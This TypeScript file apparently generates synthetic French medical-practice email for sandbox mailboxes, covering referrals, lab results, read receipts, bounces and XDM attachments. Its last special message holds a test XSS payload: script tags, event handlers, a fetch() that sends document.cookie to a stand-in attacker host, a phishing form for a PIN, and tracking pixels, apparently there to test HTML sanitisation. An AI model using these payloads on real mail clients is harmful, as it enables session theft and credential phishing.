// Realistic (fictitious) French health-practice mail for the seeded BALs. Deterministic per BAL.
import { BALS, DOMAIN, PEOPLE, type SandboxBal } from '../config';
import { buildMessage, multipart, textPart, type Address, type Attachment, type MessageSpec } from './mime';
import { buildPdf } from './pdf';
import { Prng, hashString } from './prng';
import { buildXdmZip, type XdmPatient } from './xdm';

export const USER_FOLDERS = ['Résultats labo', 'Courriers'] as const;
export const SEED_FOLDERS = ['INBOX', 'Sent', 'Archive', ...USER_FOLDERS] as const;
export type SeedFolder = (typeof SEED_FOLDERS)[number];

export interface SeedMessage {
  folder: SeedFolder;
  raw: Buffer;
  flags: string[];
  date: Date;
}

/** Messages per BAL (alice, cabinet, accueil in the 150–300 range). */
export const SEED_COUNTS: Record<string, number> = {
  [`alice.martin@${DOMAIN}`]: 240,
  [`bob.durand@${DOMAIN}`]: 120,
  [`cabinet.saint-roch@${DOMAIN}`]: 280,
  [`accueil.centre-sante@${DOMAIN}`]: 180,
  [`logiciel.labo@${DOMAIN}`]: 90,
};

const NOMS = ['DUPONT', 'BERNARD', 'THOMAS', 'ROBERT', 'RICHARD', 'DURAND', 'DUBOIS', 'MOREAU', 'LAURENT', 'SIMON', 'MICHEL', 'LEFEBVRE', 'LEROY', 'ROUX', 'DAVID', 'BERTRAND', 'MOREL', 'FOURNIER', 'GIRARD', 'BONNET', 'DUPUIS', 'LAMBERT', 'FONTAINE', 'ROUSSEAU', 'VINCENT', 'MULLER', 'LEFÈVRE', 'FAURE', 'ANDRÉ', 'MERCIER', 'BLANC', 'GUÉRIN', 'BOYER', 'GARNIER', 'CHEVALIER', 'FRANÇOIS', 'LEGRAND', 'GAUTHIER', 'GARCIA', 'PERRIN'];
const PRENOMS_F = ['Marie', 'Jeanne', 'Françoise', 'Monique', 'Catherine', 'Nathalie', 'Isabelle', 'Sylvie', 'Céline', 'Hélène', 'Élodie', 'Léa', 'Chloé', 'Manon', 'Inès', 'Gisèle'];
const PRENOMS_M = ['Jean', 'Pierre', 'Michel', 'André', 'Philippe', 'Alain', 'Jacques', 'Bernard', 'François', 'Éric', 'Stéphane', 'Julien', 'Hugo', 'Lucas', 'Théo', 'Gérard'];

interface Correspondent extends Address {
  org: string;
  idNat: string;
  kind: 'specialiste' | 'hopital' | 'labo' | 'radio' | 'pharma' | 'infirmier' | 'admin';
}

const CORRESPONDENTS: Correspondent[] = [
  { name: 'Dr Jean LEFEBVRE', address: 'jean.lefebvre@medecin.mssante.fr', org: 'Cabinet de cardiologie Lefebvre', idNat: '810002345678', kind: 'specialiste' },
  { name: 'Dr Sophie GARNIER', address: 'sophie.garnier@medecin.mssante.fr', org: 'Cabinet de dermatologie', idNat: '810003456789', kind: 'specialiste' },
  { name: 'Dr Karim BENALI', address: 'karim.benali@chu-exemple.mssante.fr', org: 'CHU Exemple – Endocrinologie', idNat: '810004567890', kind: 'hopital' },
  { name: 'Service de cardiologie – CHU Exemple', address: 'cardiologie@chu-exemple.mssante.fr', org: 'CHU Exemple', idNat: '810004567891', kind: 'hopital' },
  { name: 'Urgences – CH Val de Loire', address: 'urgences@ch-valdeloire.mssante.fr', org: 'CH Val de Loire', idNat: '810004567892', kind: 'hopital' },
  { name: 'Dr Anne ROUSSEAU', address: 'anne.rousseau@ch-valdeloire.mssante.fr', org: 'CH Val de Loire – Pneumologie', idNat: '810005678901', kind: 'hopital' },
  { name: 'Laboratoire BioSanté Loire', address: 'resultats@labo-biosante.mssante.fr', org: 'Laboratoire BioSanté Loire', idNat: '810006789012', kind: 'labo' },
  { name: 'Centre d’imagerie du Parc', address: 'imagerie.parc@radiologie.mssante.fr', org: 'Centre d’imagerie du Parc', idNat: '810007890123', kind: 'radio' },
  { name: 'Pharmacie du Centre', address: 'pharmacie.centre@pharmacien.mssante.fr', org: 'Pharmacie du Centre', idNat: '810008901234', kind: 'pharma' },
  { name: 'Cabinet infirmier des Lilas', address: 'ide.lilas@infirmier.mssante.fr', org: 'Cabinet infirmier des Lilas', idNat: '810009012345', kind: 'infirmier' },
  { name: 'CPAM – Service médical', address: 'service.medical@cpam-exemple.mssante.fr', org: 'Assurance Maladie', idNat: '810000000001', kind: 'admin' },
];

function nirKey(n13: string): string {
  return String(97n - (BigInt(n13) % 97n)).padStart(2, '0');
}

function makePatients(rng: Prng, n: number): XdmPatient[] {
  const out: XdmPatient[] = [];
  for (let i = 0; i < n; i++) {
    const sexe = rng.chance(0.5) ? 'F' : 'M';
    const year = rng.int(1935, 2020);
    const month = rng.int(1, 12);
    const day = rng.int(1, 28);
    const n13 = `${sexe === 'M' ? 1 : 2}${String(year % 100).padStart(2, '0')}${String(month).padStart(2, '0')}${rng.pick(['37', '41', '45', '49', '75', '69'])}${String(rng.int(1, 999)).padStart(3, '0')}${String(rng.int(1, 999)).padStart(3, '0')}`;
    out.push({
      nom: rng.pick(NOMS),
      prenom: rng.pick(sexe === 'F' ? PRENOMS_F : PRENOMS_M),
      sexe,
      naissance: `${String(day).padStart(2, '0')}/${String(month).padStart(2, '0')}/${year}`,
      ins: `${n13}${nirKey(n13)}`,
    });
  }
  return out;
}

const fmtDate = (d: Date) => `${String(d.getUTCDate()).padStart(2, '0')}/${String(d.getUTCMonth() + 1).padStart(2, '0')}/${d.getUTCFullYear()}`;
const fmtHour = (d: Date) => `${String(d.getUTCHours()).padStart(2, '0')}h${String(d.getUTCMinutes()).padStart(2, '0')}`;

interface Draft {
  subject: string;
  text: string;
  html?: string;
  attachments?: Attachment[];
  headers?: Array<[string, string]>;
  folder?: SeedFolder;
  xdm?: boolean;
}

type Kind = 'avis' | 'cr' | 'bio' | 'rdv' | 'radio' | 'sortie' | 'ordonnance' | 'admin' | 'infirmier';

function signature(from: Address, org: string): string {
  const name = from.name ?? from.address;
  return `\n\nBien confraternellement,\n${name}\n${org && org !== name ? `${org}\n` : ''}`;
}

function patientLabel(p: XdmPatient): string {
  return `${p.nom} ${p.prenom}`;
}

function pdfAttachment(name: string, title: string, lines: string[]): Attachment {
  return { filename: name, contentType: 'application/pdf', data: buildPdf(title, lines) };
}

function draftFor(kind: Kind, rng: Prng, p: XdmPatient, from: Address, org: string, when: Date): Draft {
  const pl = patientLabel(p);
  const future = new Date(when.getTime() + rng.int(2, 30) * 86400_000);
  future.setUTCHours(rng.int(8, 17), rng.pick([0, 15, 30, 45]));
  switch (kind) {
    case 'avis':
      return {
        subject: rng.pick([`Demande d'avis – ${pl}`, `Avis cardiologique pour ${pl}`, `Patient ${pl} : votre avis`]),
        text: `Cher confrère,\n\nJe vous adresse ${p.sexe === 'F' ? 'Mme' : 'M.'} ${pl}, né${p.sexe === 'F' ? 'e' : ''} le ${p.naissance}, pour ${rng.pick(['une douleur thoracique atypique', 'une HTA mal contrôlée sous bithérapie', 'un souffle systolique récent', 'des palpitations à l’effort', 'un bilan de dyspnée'])}.\nECG joint, traitement en cours : ${rng.pick(['amlodipine 5 mg', 'ramipril 5 mg', 'bisoprolol 2,5 mg', 'metformine 1000 mg x2'])}.\n\nMerci de votre avis.${signature(from, org)}`,
        attachments: rng.chance(0.4) ? [pdfAttachment(`ECG_${p.nom}.pdf`, 'Électrocardiogramme', ['Rythme sinusal régulier, 72/min', 'PR 160 ms, QRS fins', 'Pas de trouble de la repolarisation'])] : undefined,
        folder: rng.chance(0.35) ? 'Courriers' : undefined,
      };
    case 'cr':
      return {
        subject: rng.pick([`Compte rendu de consultation – ${pl}`, `CR consultation du ${fmtDate(when)} – ${pl}`, `Compte rendu – ${pl}`]),
        text: `Cher confrère,\n\nJ'ai revu en consultation le ${fmtDate(when)} votre patient${p.sexe === 'F' ? 'e' : ''} ${pl}.\n\nExamen clinique : ${rng.pick(['sans particularité', 'TA 135/85, auscultation normale', 'discret œdème des membres inférieurs', 'bon état général'])}.\nConclusion : ${rng.pick(['pas d’indication à modifier le traitement', 'majoration du traitement diurétique', 'contrôle biologique dans 3 mois', 'échographie de contrôle à prévoir'])}.\n\nJe reste à votre disposition.${signature(from, org)}`,
        attachments: rng.chance(0.5) ? [pdfAttachment(`CR_consultation_${p.nom}.pdf`, 'Compte rendu de consultation', [`Patient : ${pl}`, `Date : ${fmtDate(when)}`, 'Conclusion : suivi habituel'])] : undefined,
        folder: rng.chance(0.4) ? 'Courriers' : undefined,
        xdm: rng.chance(0.12),
      };
    case 'bio':
      return {
        subject: rng.pick([`Résultats d'analyses – ${pl}`, `Résultats biologiques ${pl} du ${fmtDate(when)}`, `Bilan sanguin – ${pl}`]),
        text: `Bonjour,\n\nVeuillez trouver ci-joint les résultats du bilan de ${pl} (prélèvement du ${fmtDate(when)}).\n${rng.pick(['Hémoglobine glyquée : 7,2 %', 'Créatinine : 88 µmol/L, DFG 78 mL/min', 'TSH : 2,1 mUI/L', 'INR : 2,6 (cible 2–3)', 'LDL-cholestérol : 1,42 g/L', 'CRP : 34 mg/L (élevée)'])}.\n\nCordialement,\n${from.name}\n${org}\n`,
        attachments: [pdfAttachment(`Resultats_${p.nom}_${fmtDate(when).replace(/\//g, '')}.pdf`, 'Résultats de biologie médicale', [`Patient : ${pl}`, `Prélèvement : ${fmtDate(when)}`, 'Hémogramme : normal', 'Ionogramme : normal'])],
        folder: rng.chance(0.55) ? 'Résultats labo' : undefined,
        xdm: rng.chance(0.25),
      };
    case 'rdv':
      return {
        subject: rng.pick([`Rendez-vous du ${fmtDate(future)} à ${fmtHour(future)}`, `Confirmation de rendez-vous – ${pl}`, `Annulation rendez-vous ${fmtDate(future)}`, `Demande de rendez-vous pour ${pl}`]),
        text: `Bonjour,\n\n${rng.pick(['Nous vous confirmons le rendez-vous de', 'Merci de bien vouloir noter le rendez-vous de', 'Le rendez-vous est déplacé pour', 'Pourriez-vous proposer un créneau à'])} ${pl} le ${fmtDate(future)} à ${fmtHour(future)}.\n\nBien cordialement,\n${from.name}\n`,
      };
    case 'radio':
      return {
        subject: `Compte rendu d'imagerie – ${rng.pick(['radiographie thoracique', 'échographie abdominale', 'IRM du genou', 'scanner lombaire'])} – ${pl}`,
        text: `Cher confrère,\n\nVeuillez trouver le compte rendu de l'examen réalisé le ${fmtDate(when)} pour ${pl}.\nConclusion : ${rng.pick(['examen sans anomalie', 'lésion méniscale interne', 'discopathie L4-L5', 'petite lithiase vésiculaire'])}.\nLes images sont disponibles sur le portail du centre.${signature(from, org)}`,
        attachments: [pdfAttachment(`CR_imagerie_${p.nom}.pdf`, 'Compte rendu d’imagerie', [`Patient : ${pl}`, 'Technique : standard', 'Conclusion : voir courrier'])],
        folder: rng.chance(0.3) ? 'Courriers' : undefined,
      };
    case 'sortie':
      return {
        subject: `Lettre de liaison de sortie – ${pl}`,
        text: `Cher confrère,\n\nVotre patient${p.sexe === 'F' ? 'e' : ''} ${pl} a été hospitalisé${p.sexe === 'F' ? 'e' : ''} du ${fmtDate(new Date(when.getTime() - 5 * 86400_000))} au ${fmtDate(when)} pour ${rng.pick(['décompensation cardiaque', 'pneumopathie communautaire', 'malaise vagal', 'pose de prothèse de hanche'])}.\nTraitement de sortie et suites à prévoir dans le document joint.${signature(from, org)}`,
        attachments: [pdfAttachment(`Lettre_liaison_${p.nom}.pdf`, 'Lettre de liaison', [`Patient : ${pl}`, 'Traitement de sortie : voir ordonnance', 'Rendez-vous de contrôle à 1 mois'])],
        folder: rng.chance(0.5) ? 'Courriers' : undefined,
        xdm: rng.chance(0.3),
      };
    case 'ordonnance':
      return {
        subject: `Renouvellement d'ordonnance – ${pl}`,
        text: `Bonjour,\n\nLa pharmacie signale que l'ordonnance de ${pl} arrive à échéance. Pouvez-vous la renouveler ?\n\nMerci,\n${from.name}\n`,
      };
    case 'infirmier':
      return {
        subject: `Transmission soins à domicile – ${pl}`,
        text: `Bonjour Docteur,\n\nPassage ce matin chez ${pl} : ${rng.pick(['pansement propre, bonne cicatrisation', 'glycémies entre 1,4 et 2,1 g/L', 'TA 150/90, patient fatigué', 'INR à 3,4, merci de nous indiquer la conduite à tenir'])}.\n\nCordialement,\n${from.name}\n`,
      };
    default:
      return {
        subject: rng.pick(['Planning des gardes du mois', 'Réunion de coordination – ordre du jour', 'Mise à jour du logiciel de cabinet', 'Congés d’été : organisation du secrétariat', 'Campagne de vaccination antigrippale']),
        text: `Bonjour à tous,\n\n${rng.pick(['Vous trouverez ci-dessous les informations pratiques.', 'Merci de confirmer votre présence.', 'Le document sera affiché en salle de pause.'])}\n\nBonne journée,\n${from.name}\n`,
      };
  }
}

export interface BalSeedOptions {
  /** Anchor date (messages spread over the 180 days before it). Default: today 00:00 UTC. */
  anchor?: Date;
  count?: number;
}

function balOwnerAddress(bal: SandboxBal): Address {
  return { name: bal.label, address: bal.address };
}

function mssHeaders(): Array<[string, string]> {
  return [['X-MSS-NIL', 'BAC-A-SABLE-NON-REEL']];
}

/** The seed messages of one BAL, oldest first. */
export function generateBalSeed(bal: SandboxBal, opts: BalSeedOptions = {}): SeedMessage[] {
  const rng = new Prng(`seed:${bal.address}`);
  const anchor = opts.anchor ?? new Date(Math.floor(Date.now() / 86400_000) * 86400_000);
  const count = opts.count ?? SEED_COUNTS[bal.address] ?? 100;
  const patients = makePatients(rng, 40);
  const me = balOwnerAddress(bal);
  const slug = bal.address.split('@')[0]!;
  const internal = BALS.filter((b) => b.address !== bal.address && b.type !== 'APP').map(balOwnerAddress);
  const out: SeedMessage[] = [];
  const isLabo = bal.type === 'APP';
  const kinds: ReadonlyArray<readonly [Kind, number]> = isLabo
    ? [['bio', 10], ['admin', 1]]
    : bal.type === 'ORG'
      ? [['rdv', 6], ['admin', 2], ['bio', 2], ['cr', 2], ['ordonnance', 2], ['sortie', 1]]
      : [['cr', 5], ['bio', 5], ['avis', 3], ['rdv', 3], ['radio', 2], ['sortie', 2], ['ordonnance', 1], ['infirmier', 2], ['admin', 1]];

  // Spread special messages (reports, remote images, hostile HTML) among the regular ones.
  const specials = isLabo ? [] : ['mdn', 'mdn', 'dsn-failure', 'dsn-delay', 'remote-images', 'hostile-html'];
  const specialAt = new Map<number, string>();
  specials.forEach((s, i) => specialAt.set(Math.floor(((i + 1) * count) / (specials.length + 1)), s));

  let seq = 0;
  const nextId = (domain: string) => `seed-${slug}-${++seq}.${hashString(`${slug}${seq}`).toString(36)}@${domain}`;
  const pending: Array<{ spec: MessageSpec; folder: SeedFolder; flags: string[] }> = [];

  for (let i = 0; i < count; i++) {
    const when = new Date(anchor.getTime() - ((count - i) / count) * 180 * 86400_000 + rng.int(7, 18) * 3600_000 + rng.int(0, 59) * 60_000);
    const ageDays = (anchor.getTime() - when.getTime()) / 86400_000;
    const seen = ageDays > 3 ? rng.chance(0.92) : rng.chance(0.35);
    const special = specialAt.get(i);
    if (special) {
      pending.push({ spec: specialMessage(special, rng, me, nextId, when, patients), folder: 'INBOX', flags: special === 'hostile-html' ? [] : seen ? ['\\Seen'] : [] });
      continue;
    }
    const kind = rng.weighted(kinds);
    const p = rng.pick(patients);
    const outgoing = isLabo ? rng.chance(0.7) : rng.chance(0.18);
    const peer: Correspondent | Address = rng.chance(0.15) && internal.length ? rng.pick(internal) : pickCorrespondent(rng, kind);
    const peerOrg = 'org' in peer ? (peer as Correspondent).org : (peer.name ?? '');
    const from = outgoing ? me : peer;
    const to = outgoing ? peer : me;
    const d = draftFor(kind, rng, p, from, outgoing ? bal.label : peerOrg, when);
    const headers = [...mssHeaders()];
    const attachments = [...(d.attachments ?? [])];
    let subject = d.subject;
    if (d.xdm || (isLabo && kind === 'bio' && rng.chance(0.5))) {
      const code = kind === 'bio' ? '11502-2' : kind === 'sortie' ? '34133-9' : '11488-4';
      const label = kind === 'bio' ? 'CR de biologie' : kind === 'sortie' ? 'Lettre de liaison' : 'CR de consultation';
      const { zip, pdf } = buildXdmZip(p, {
        code,
        label,
        author: { name: from.name ?? from.address, idNat: 'idNat' in from ? (from as Correspondent).idNat : (PEOPLE[0]?.idNat ?? '810001234567'), org: outgoing ? bal.label : peerOrg },
        date: when,
        lines: d.text.split('\n').slice(2, 6),
        uniqueId: `1.2.250.1.999.1.${hashString(`${slug}-${i}`)}`,
      });
      attachments.length = 0;
      attachments.push({ filename: 'IHE_XDM.zip', contentType: 'application/zip', data: zip }, { filename: `${label.replace(/ /g, '_')}_${p.nom}.pdf`, contentType: 'application/pdf', data: pdf });
      subject = `XDM/1.0/DDM+${label} ${p.nom} ${p.prenom} ${p.naissance}`;
      headers.push(['X-MSS-CODECDA', code], ['X-MSS-INS', 'O']);
    }
    const spec: MessageSpec = {
      from,
      to: [to],
      subject,
      date: when,
      messageId: nextId((from.address.split('@')[1] ?? DOMAIN)),
      text: d.text,
      attachments,
      headers,
    };
    const folder: SeedFolder = outgoing ? 'Sent' : (d.folder ?? (ageDays > 60 && rng.chance(0.35) ? 'Archive' : 'INBOX'));
    const flags = outgoing ? ['\\Seen'] : [...(seen ? ['\\Seen'] : []), ...(rng.chance(0.08) ? ['\\Flagged'] : [])];
    pending.push({ spec, folder, flags });

    // Threads: we answer some incoming mail; sometimes they answer back.
    if (!outgoing && !isLabo && i < count - 3 && rng.chance(0.16)) {
      flags.push('\\Answered');
      const replyAt = new Date(when.getTime() + rng.int(2, 40) * 3600_000);
      const reply: MessageSpec = {
        from: me,
        to: [from],
        subject: `RE: ${subject.replace(/^XDM\/1\.0\/DDM\+/, '')}`,
        date: replyAt,
        messageId: nextId(DOMAIN),
        inReplyTo: spec.messageId,
        references: [spec.messageId],
        text: `${rng.pick(['Merci pour ce retour.', 'Bien reçu, je revois le patient la semaine prochaine.', 'Merci, nous adaptons le traitement.', 'Pouvez-vous me transmettre le compte rendu complet ?'])}\n\n${bal.label}\n\n> ${d.text.split('\n').slice(0, 4).join('\n> ')}\n`,
        headers: mssHeaders(),
      };
      pending.push({ spec: reply, folder: 'Sent', flags: ['\\Seen'] });
      if (rng.chance(0.45)) {
        const back: MessageSpec = {
          from,
          to: [me],
          subject: `RE: ${reply.subject}`.replace(/^RE: RE: /, 'RE: '),
          date: new Date(replyAt.getTime() + rng.int(1, 30) * 3600_000),
          messageId: nextId(from.address.split('@')[1] ?? DOMAIN),
          inReplyTo: reply.messageId,
          references: [spec.messageId, reply.messageId],
          text: `${rng.pick(['Parfait, merci.', 'Je vous envoie le document dès que possible.', 'Entendu, bonne journée.'])}\n\n${from.name}\n`,
          headers: mssHeaders(),
        };
        pending.push({ spec: back, folder: 'INBOX', flags: ageDays > 3 ? ['\\Seen'] : [] });
      }
    }
  }

  for (const m of pending) {
    out.push({ folder: m.folder, raw: buildMessage(m.spec), flags: m.flags, date: m.spec.date });
  }
  return out.sort((a, b) => a.date.getTime() - b.date.getTime());
}

function pickCorrespondent(rng: Prng, kind: Kind): Correspondent {
  const want: Correspondent['kind'][] =
    kind === 'bio' ? ['labo'] : kind === 'radio' ? ['radio'] : kind === 'sortie' ? ['hopital'] : kind === 'ordonnance' ? ['pharma'] : kind === 'infirmier' ? ['infirmier'] : kind === 'admin' ? ['admin', 'hopital'] : ['specialiste', 'hopital'];
  return rng.pick(CORRESPONDENTS.filter((c) => want.includes(c.kind)));
}

function specialMessage(kind: string, rng: Prng, me: Address, nextId: (d: string) => string, when: Date, patients: XdmPatient[]): MessageSpec {
  const peer = rng.pick(CORRESPONDENTS.filter((c) => c.kind === 'specialiste' || c.kind === 'hopital'));
  const p = rng.pick(patients);
  const origId = `orig-${hashString(`${me.address}${kind}${when.getTime()}`).toString(36)}@${DOMAIN}`;
  const origSubject = `Compte rendu – ${patientLabel(p)}`;
  switch (kind) {
    case 'mdn': {
      const human = `Le message envoyé à ${peer.address} le ${fmtDate(when)} (« ${origSubject} ») a été affiché par le destinataire.\r\n`;
      const report = `Reporting-UA: ${peer.address.split('@')[1]}; Messagerie MSSante\r\nFinal-Recipient: rfc822;${peer.address}\r\nOriginal-Message-ID: <${origId}>\r\nDisposition: manual-action/MDN-sent-manually; displayed\r\n`;
      const mp = multipart('report', [textPart('plain', human), `Content-Type: message/disposition-notification\r\n\r\n${report}\r\n`], origId, '; report-type=disposition-notification');
      return { from: peer, to: [me], subject: `Accusé de lecture : ${origSubject}`, date: when, messageId: nextId(peer.address.split('@')[1]!), rawBody: mp, headers: mssHeaders() };
    }
    case 'dsn-failure':
    case 'dsn-delay': {
      const failed = kind === 'dsn-failure';
      const rcpt = failed ? `inconnu.${p.nom.toLowerCase().replace(/[^a-z]/g, '')}@chu-exemple.mssante.fr` : peer.address;
      const human = failed
        ? `Ceci est le système de messagerie.\r\n\r\nVotre message n'a pas pu être remis à ${rcpt} : destinataire inconnu.\r\n`
        : `Ceci est le système de messagerie.\r\n\r\nVotre message pour ${rcpt} n'a pas encore pu être remis. Nouvel essai en cours.\r\n`;
      const status = `Reporting-MTA: dns; smtp.${DOMAIN}\r\nArrival-Date: ${when.toUTCString()}\r\n\r\nFinal-Recipient: rfc822; ${rcpt}\r\nOriginal-Recipient: rfc822;${rcpt}\r\nAction: ${failed ? 'failed' : 'delayed'}\r\nStatus: ${failed ? '5.1.1' : '4.4.1'}\r\nRemote-MTA: dns; mx.${rcpt.split('@')[1]}\r\nDiagnostic-Code: smtp; ${failed ? '550 5.1.1 User unknown' : '421 4.4.1 Connection timed out'}\r\n`;
      const headersPart = `Content-Type: text/rfc822-headers\r\n\r\nFrom: ${me.address}\r\nTo: ${rcpt}\r\nSubject: ${origSubject}\r\nMessage-ID: <${origId}>\r\n`;
      const mp = multipart('report', [textPart('plain', human), `Content-Type: message/delivery-status\r\n\r\n${status}\r\n`, headersPart], origId, '; report-type=delivery-status');
      return {
        from: { name: 'Mail Delivery System', address: `MAILER-DAEMON@smtp.${DOMAIN}` },
        to: [me],
        subject: failed ? 'Undelivered Mail Returned to Sender' : 'Delayed Mail (still being retried)',
        date: when,
        messageId: nextId(`smtp.${DOMAIN}`),
        rawBody: mp,
      };
    }
    case 'remote-images':
      return {
        from: { name: 'Lettre d’information – URPS Centre', address: 'lettre@urps-centre.mssante.fr' },
        to: [me],
        subject: 'Lettre d’information des professionnels de santé – nouveautés',
        date: when,
        messageId: nextId('urps-centre.mssante.fr'),
        text: 'Version texte : actualités des professionnels de santé de la région.\n',
        html: `<html><body><h1>Actualités</h1><p>Nouveau protocole de coopération infirmier.</p><img src="https://tracker.example.invalid/pixel.gif?u=${encodeURIComponent(me.address)}" width="1" height="1" alt=""><p><img src="http://images.example.invalid/banniere.png" alt="Bannière"></p><p><a href="https://urps.example.invalid/article">Lire l’article</a></p></body></html>`,
        headers: mssHeaders(),
      };
    default:
      return {
        from: { name: 'Service informatique', address: 'support@prestataire-info.mssante.fr' },
        to: [me],
        subject: 'Mise à jour urgente de votre messagerie',
        date: when,
        messageId: nextId('prestataire-info.mssante.fr'),
        text: 'Merci de mettre à jour votre messagerie.\n',
        html: `<html><head><script>alert('xss-head')</script></head><body onload="alert('xss-body')"><p>Merci de mettre à jour votre messagerie.</p><img src="x" onerror="fetch('https://attacker.example.invalid/?c='+document.cookie)"><script>document.location='https://attacker.example.invalid/'</script><a href="javascript:alert('xss-link')">Cliquez ici</a><iframe src="https://attacker.example.invalid/frame"></iframe><form action="https://attacker.example.invalid/login"><input name="pin"></form><div style="background:url(https://tracker.example.invalid/bg.png)">Fond</div></body></html>`,
        headers: mssHeaders(),
      };
  }
}
